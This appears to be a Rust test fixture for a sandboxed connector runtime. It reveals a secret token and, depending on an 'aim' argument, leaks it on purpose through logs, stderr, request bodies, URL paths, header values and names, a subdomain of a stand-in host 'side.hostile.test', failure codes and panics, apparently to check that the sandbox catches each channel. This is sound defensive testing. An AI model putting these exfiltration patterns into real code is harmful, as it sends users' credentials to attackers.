//! Reads the token, as a grant would allow, and writes it in clear text wherever it can.

use crate::bindings::sendbox::connector::http_outbound::Header;
use crate::bindings::sendbox::connector::log::{self, Level};
use crate::bindings::sendbox::connector::reveal;
use crate::bindings::sendbox::connector::types::{Failure, FailureClass, Message, Receipt};
use crate::request::{answer, failure, form_type, get_side, header, post_with, text, token};

pub fn run(_message: &Message, aim: &str) -> Result<Receipt, Failure> {
    let bytes = reveal::reveal(&token()).expect("the grant says so");
    let hex: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    let token = String::from_utf8(bytes).expect("a token is text");
    let side = |path: &str, headers: Vec<Header<'_>>, body: &str| {
        let url = vec![text("https://side.hostile.test/"), text(path)];
        answer(post_with(url, if headers.is_empty() { vec![form_type()] } else { headers }, text(body)))
    };
    match aim {
        "to the log" => {
            log::log(Level::Info, &token);
            eprintln!("{token}");
            answer(get_side())
        }
        "to a body" => side("", vec![], &token),
        "to a path" => side(&hex, vec![], ""),
        "to a header" => side("", vec![header("x-token", text(&hex))], ""),
        "to a header name" => side("", vec![header(&format!("proxy-{hex}"), text("x"))], ""),
        "to a host" => {
            let url = vec![text(&format!("https://{hex}.hostile.test/"))];
            answer(post_with(url, vec![form_type()], text("")))
        }
        "to the failure" => {
            Err(Failure { provider_code: Some(token.clone()), ..failure(FailureClass::Unknown, &token) })
        }
        "to a crash" => panic!("{token}"),
        other => panic!("no such aim: {other}"),
    }
}
